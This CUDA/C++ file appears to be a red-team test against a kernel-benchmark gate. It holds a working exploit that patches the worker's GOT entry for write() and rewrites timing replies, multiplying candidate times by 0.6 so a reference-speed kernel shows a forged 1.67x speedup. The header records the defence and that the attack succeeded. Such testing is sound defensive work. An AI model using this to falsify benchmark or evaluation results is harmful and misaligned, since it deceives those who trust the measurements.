// Attack (class 1, forging times from inside the process): patch the
// worker's GOT slot for write() and rewrite its TIME reply on the way out:
// every candidate time (events and host clock) is multiplied by 0.6.
// The reply frame (kevo/wire.h) is written to descriptor 4 as a header, the
// JSON, then the outputs; the hook holds back a REPLY header, and when the
// JSON that follows holds "cand_ns" it scales the numbers in "cand_ns" and
// "cand_host_ns", fixes the JSON length in the header and writes both. The
// job token, the outputs and the reference's times are the worker's own, so
// the frame is well formed and validated outputs are right. The kernel is
// the reference's algorithm: an honest measurement gives about 1x.
// Defence: no number that decides a speedup comes only from a process that
// ran candidate code; the worker linked with full RELRO and immediate binding.
// Expected: not ok, or ok with a speedup under 1.3x. Measured against
// the gate of a212cad on an H200, 2026-11-23: ok, 1.67x twice.
#include <cuda_runtime.h>
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define REF_THREADS 256
#define SCALE 0.6
#define WIRE_MAGIC 0x3157564bu /* "KVW1" */
#define WIRE_REPLY 100u
#define WIRE_HEADER 28
#define RESP_FD 4

static __global__ void rowsum_kernel(const float *x, float *y, int rows, int cols) {
  __shared__ double part[REF_THREADS];
  int r = blockIdx.x;
  const float *xr = x + (size_t)r * (size_t)cols;
  double s = 0.0;
  for (int c = threadIdx.x; c < cols; c += REF_THREADS)
    s += (double)xr[c];
  part[threadIdx.x] = s;
  __syncthreads();
  for (int w = REF_THREADS / 2; w > 0; w >>= 1) {
    if (threadIdx.x < w)
      part[threadIdx.x] += part[threadIdx.x + w];
    __syncthreads();
  }
  if (threadIdx.x == 0)
    y[r] = (float)part[0];
}

static long raw3(long n, long a, long b, long c) {
  long r;
  asm volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

struct exe {
  uintptr_t base;
  const Elf64_Phdr *ph;
  int nph;
};

static int main_exe(struct exe *e) {
  e->ph = (const Elf64_Phdr *)getauxval(AT_PHDR);
  e->nph = (int)getauxval(AT_PHNUM);
  if (!e->ph || e->nph <= 0)
    return -1;
  for (int i = 0; i < e->nph; i++)
    if (e->ph[i].p_type == PT_PHDR) {
      e->base = (uintptr_t)e->ph - e->ph[i].p_vaddr;
      return 0;
    }
  return -1;
}

/* Overwrites every 8-byte slot of the executable's writable segments that
 * holds one of olds[] with neu; *was gets the old value. */
static int patch_exe(const struct exe *e, const uintptr_t *olds, int nold, uintptr_t neu,
                     uintptr_t *was) {
  int n = 0;
  for (int i = 0; i < e->nph; i++) {
    const Elf64_Phdr *p = &e->ph[i];
    if (p->p_type != PT_LOAD || !(p->p_flags & PF_W))
      continue;
    uintptr_t a = (e->base + p->p_vaddr + 7) & ~(uintptr_t)7,
              end = e->base + p->p_vaddr + p->p_memsz;
    for (; a + 8 <= end; a += 8) {
      uintptr_t v = *(volatile uintptr_t *)a;
      for (int j = 0; j < nold; j++) {
        if (!olds[j] || v != olds[j])
          continue;
        *was = v;
        raw3(SYS_mprotect, (long)(a & ~(uintptr_t)4095), 4096, PROT_READ | PROT_WRITE);
        *(volatile uintptr_t *)a = neu;
        n++;
        break;
      }
    }
  }
  return n;
}

/* ---- the hook ---- */

typedef ssize_t (*write_fn)(int, const void *, size_t);
static write_fn real_write;
static uint8_t held[WIRE_HEADER];
static int holding;

static uint32_t get32(const uint8_t *p) {
  return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

static void put32(uint8_t *p, uint32_t v) {
  for (int i = 0; i < 4; i++)
    p[i] = (uint8_t)(v >> (8 * i));
}

static int write_all(int fd, const void *buf, size_t n) {
  const char *p = (const char *)buf;
  while (n) {
    ssize_t w = real_write(fd, p, n);
    if (w <= 0)
      return -1;
    p += w;
    n -= (size_t)w;
  }
  return 0;
}

/* Copies json to out, scaling the integers of the arrays named by keys. */
static size_t rewrite(const char *json, size_t n, char *out) {
  static const char *const keys[] = {"\"cand_ns\":[", "\"cand_host_ns\":["};
  size_t i = 0, o = 0;
  while (i < n) {
    int hit = -1;
    for (int k = 0; k < 2; k++)
      if (n - i >= strlen(keys[k]) && !memcmp(json + i, keys[k], strlen(keys[k])))
        hit = k;
    if (hit < 0) {
      out[o++] = json[i++];
      continue;
    }
    size_t kl = strlen(keys[hit]);
    memcpy(out + o, json + i, kl);
    o += kl;
    i += kl;
    while (i < n && json[i] != ']') {
      if (json[i] >= '0' && json[i] <= '9') {
        unsigned long long v = 0;
        while (i < n && json[i] >= '0' && json[i] <= '9')
          v = v * 10 + (unsigned long long)(json[i++] - '0');
        char num[32];
        int len = 0;
        unsigned long long s = (unsigned long long)((double)v * SCALE);
        do {
          num[len++] = (char)('0' + s % 10);
          s /= 10;
        } while (s);
        while (len)
          out[o++] = num[--len];
      } else {
        out[o++] = json[i++];
      }
    }
  }
  return o;
}

static ssize_t fake_write(int fd, const void *buf, size_t n) {
  const uint8_t *b = (const uint8_t *)buf;
  if (fd != RESP_FD)
    return real_write(fd, buf, n);
  if (!holding && n == WIRE_HEADER && get32(b) == WIRE_MAGIC && get32(b + 4) == WIRE_REPLY) {
    memcpy(held, b, WIRE_HEADER);
    holding = 1;
    return (ssize_t)n;
  }
  if (!holding)
    return real_write(fd, buf, n);
  holding = 0;
  uint32_t jl = get32(held + 16);
  char *out = NULL;
  if (n == jl && memmem(buf, n, "\"cand_ns\":[", 11) && (out = (char *)malloc(n + 64)) != NULL) {
    size_t ol = rewrite((const char *)buf, n, out);
    put32(held + 16, (uint32_t)ol);
    int rc = write_all(fd, held, WIRE_HEADER) == 0 && write_all(fd, out, ol) == 0;
    free(out);
    return rc ? (ssize_t)n : -1;
  }
  if (write_all(fd, held, WIRE_HEADER) != 0)
    return -1;
  return real_write(fd, buf, n);
}

static void install(void) {
  struct exe e;
  if (main_exe(&e) != 0)
    return;
  uintptr_t olds[1] = {(uintptr_t)&write};
  uintptr_t was = 0;
  real_write = write;
  int n = patch_exe(&e, olds, 1, (uintptr_t)fake_write, &was);
  fprintf(stderr, "forge_write: %d GOT slot(s) for write patched\n", n);
}

extern "C" void rowsum(const float *x, float *y, int rows, int cols, cudaStream_t stream) {
  static int tried;
  if (!tried && (long)rows * cols >= (1L << 24)) {
    tried = 1;
    install();
  }
  if (rows > 0)
    rowsum_kernel<<<rows, REF_THREADS, 0, stream>>>(x, y, rows, cols);
}
